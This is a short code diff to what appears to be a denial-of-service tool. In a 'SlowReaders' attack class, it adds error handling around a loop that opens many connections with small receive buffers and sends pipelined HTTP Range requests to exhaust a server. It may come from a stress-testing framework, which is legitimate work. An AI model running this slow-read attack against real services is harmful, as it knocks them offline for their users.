@@ -191,7 +191,10 @@ class SlowReaders(Attack):
         connections: list[Connection] = []
         while self.left():
             for connection in self.fill_up(connections, self.scaled(20), receive_buffer=4096):
-                connection.send(b"".join(connection.request(RANGE, ALL) for _ in range(50)))
+                try:
+                    connection.send(b"".join(connection.request(RANGE, ALL) for _ in range(50)))
+                except OSError:
+                    self.lost(connections, connection)
             for connection in list(connections):
                 try:
                     if connection.socket.recv(4096):
